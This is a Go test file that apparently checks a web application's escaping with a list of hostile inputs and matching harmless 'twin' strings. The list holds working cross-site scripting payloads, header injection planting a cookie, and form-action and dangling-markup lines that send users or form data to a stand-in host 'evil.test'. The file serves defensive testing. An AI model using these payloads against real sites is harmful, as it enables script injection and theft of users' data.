package hostile

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// value is one hostile text. Each is long enough that its twin occurs nowhere
// else in a page.
type value struct{ name, text string }

func values() []value {
	const script = `"><script>alert(1)</script>`
	return []value{
		{"attribute and script", script},
		{"single quote and script", `'><script>alert(1)</script>`},
		{"end of script", `</script><script>alert(1)</script>`},
		{"end of script, upper case", `</ScRiPt ><SCRIPT>alert(1)</SCRIPT/>`},
		{"script within a comment", `<!--<script>alert(1)</script>`},
		{"end of comment", `--!><img src=x onerror=alert(1)>`},
		{"comment", `<!-- <!-- --> -->`},
		{"CDATA", `]]><![CDATA[<b>x`},
		{"image", `<img src=//evil.test/x onerror=alert(1)>`},
		{"svg", `<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>`},
		{"math", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`},
		{"iframe", `<iframe srcdoc="<script>parent.alert(1)</script>">`},
		{"link and style", `</style><link rel=stylesheet href=//evil.test/x>`},
		{"base and meta", `<base href=//evil.test/><meta http-equiv=refresh content=0;url=//evil.test/>`},
		{"end of title", `</title></textarea></noscript><script>alert(1)</script>`},
		{"end of everything", `</p></form></main></body></html><form action=//evil.test/>`},
		{"button of another form", `<button form=f formaction=//evil.test/>`},
		{"dangling attribute", `"><img src='//evil.test/?`},
		{"event handler", `" autofocus onfocus=alert(1) x="`},
		{"event handler, unquoted", ` onload=alert(1) x=`},
		{"event handler, slash", `x"/onmouseover="alert(1)"/y="`},
		{"javascript", `javascript:alert(document.domain)`},
		{"javascript, split", "java\tscript:alert(1)//"},
		{"data", `data:text/html,<script>alert(1)</script>`},
		{"template", `{{.}}{{printf "%s" .}}`},
		{"template literal", "`${alert(1)}`+`x`"},
		{"end of string", `"});alert(1);({"a":"`},
		{"end of string, single", `');alert(1);//x`},
		{"backslashes", `\u003cscript\u003e\x3c\"\\`},
		{"entities", `&lt;script&gt;&#60;b&#x3e;&quot;&amp;lt;`},
		{"percent", `%3Cscript%3Ealert(1)%3C/script%3E%00%0d%0a`},
		{"line separators", "a\u2028alert(1)\u2029alert(2)"},
		{"direction", "\u202egro.live\u202c\u2066x\u2069<b>"},
		{"storm", strings.Repeat("Z\u0351\u0302\u0489\u034f", 40) + "<b>"},
		{"invisible", "a\u200b\u200d\ufeff\u00ad<b>bc</b>\U000e0001"},
		{"not a character", "\ufffe\uffff\U0010ffff<b>"},
		{"full width", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"},
		{"NUL", "a\x00<\x00script>alert(1)</scr\x00ipt>"},
		{"control", "\x01\x08\x1b[2J<b>\x7f\u0085\u009b"},
		{"header", "x\r\nSet-Cookie: planted=1\r\n\r\n" + script},
		{"line ends", "x\ny\rz\r\n" + script},
		{"lone surrogate", "\xed\xa0\x80<script>\xed\xb0\x80"},
		{"overlong", "\xc0\xbcscript\xc0\xbe\xf8\x88\x80"},
		{"cut character", script + "\xe2\x80"},
		{"UTF-7", `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`},
		{"ISO-2022", "\x1b$B<script>\x1b(Balert(1)"},
		{"near the cap of a detail", strings.Repeat("<b>", 99) + "\u2028\u2028"},
		{"4 KB", strings.Repeat("<script>alert(1)</script>", 160)},
		{"8 KB", strings.Repeat("\u2028</script>", 700)},
		{"64 KB", strings.Repeat(script, 2430)},
	}
}

// utf8Only are the values that a configuration file can hold as well.
func utf8Only() (list []value) {
	for _, v := range values() {
		if utf8.ValidString(v.text) {
			list = append(list, v)
		}
	}
	return list
}

// twin is the harmless text of the same kind: as many bytes, as unreadable as
// it, with its control characters, and otherwise letters.
func twin(text string) string {
	if !utf8.ValidString(text) {
		return strings.Repeat("\xff", len(text))
	}
	return spell(text, func(r rune) byte {
		if unicode.IsControl(r) {
			return '\x01'
		}
		return 0
	})
}

// scopeTwin is twin for what is held to the characters of RFC 6749 section 3.3.
func scopeTwin(text string) string {
	if !utf8.ValidString(text) {
		return twin(text)
	}
	return spell(text, func(r rune) byte {
		switch {
		case r == ' ':
			return ' '
		case r < ' ' || r > '~' || r == '"' || r == '\\':
			return '\\'
		}
		return 0
	})
}

// nameTwin is twin for a parameter's name, which is repeated in a refusal only
// if it is made of visible ASCII.
func nameTwin(text string) string {
	if !utf8.ValidString(text) {
		return twin(text)
	}
	return spell(text, func(r rune) byte {
		if r <= ' ' || r > '~' {
			return '\x01'
		}
		return 0
	})
}

// pathTwin is twin for a part of a path, which is refused where it is not clean.
func pathTwin(text string) string {
	if !utf8.ValidString(text) {
		return twin(text)
	}
	return spell(text, func(r rune) byte {
		switch {
		case r == '/' || r == '.':
			return byte(r)
		case unicode.IsControl(r):
			return '\x01'
		}
		return 0
	})
}

// cookieTwin is twin for a cookie's value, which cannot be read if it holds a
// character that RFC 6265 section 4.1.1 does not allow; quotes around it are no
// part of it.
func cookieTwin(text string) string {
	if !utf8.ValidString(text) {
		return twin(text)
	}
	return spell(text, func(r rune) byte {
		switch {
		case r == ';' || r == '"':
			return byte(r)
		case r < ' ' || r > '~' || r == '\\':
			return '\\'
		}
		return 0
	})
}

// spell writes letters in place of text, but what keep gives for a rune.
func spell(text string, keep func(rune) byte) string {
	const letters = "zqxjkvwyh"
	var b strings.Builder
	for i, r := range text {
		fill := letters[i%len(letters)]
		if c := keep(r); c != 0 {
			fill = c
		}
		for range utf8.RuneLen(r) {
			b.WriteByte(fill)
		}
	}
	return b.String()
}

func TestTwins(t *testing.T) {
	seen := map[string]bool{}
	for _, v := range values() {
		if len(v.text) < 12 || seen[v.name] {
			t.Errorf("%s: too short, or there twice", v.name)
		}
		seen[v.name] = true
		for _, make := range []func(string) string{twin, scopeTwin, nameTwin} {
			got := make(v.text)
			if len(got) != len(v.text) || utf8.ValidString(got) != utf8.ValidString(v.text) || strings.ContainsAny(got, `<>&"'{}:/`) {
				t.Errorf("%s: the twin is %.60q", v.name, got)
			}
		}
	}
}
